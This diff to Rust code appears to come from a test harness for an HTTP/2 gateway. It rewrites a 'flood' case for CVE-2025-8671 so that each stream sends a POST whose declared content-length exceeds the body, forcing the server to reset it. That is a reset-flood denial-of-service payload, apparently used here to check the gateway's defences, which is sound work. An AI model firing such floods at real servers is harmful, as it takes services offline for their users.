@@ -56,14 +56,16 @@ const RAPID_RESET: Flood = Flood {
     },
 };
 
-/// CVE-2025-8671: an oversized window update makes the gateway reset the request.
+/// CVE-2025-8671: a body shorter than its Content-Length makes the gateway reset the request.
 const OWN_RESETS: Flood = Flood {
     name: "resets that we are made to send",
     cause: "own_resets",
     nth: |nth| {
         let stream = nth * 2 + 1;
-        let wide = frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
-        [post(stream), wide].concat()
+        let mut head = block(&request("POST"));
+        head.extend(block(&[("content-length", "2")]));
+        let head = frame(HEADERS, END_HEADERS, stream, &head);
+        [head, frame(DATA, END_STREAM, stream, b"x")].concat()
     },
 };
 
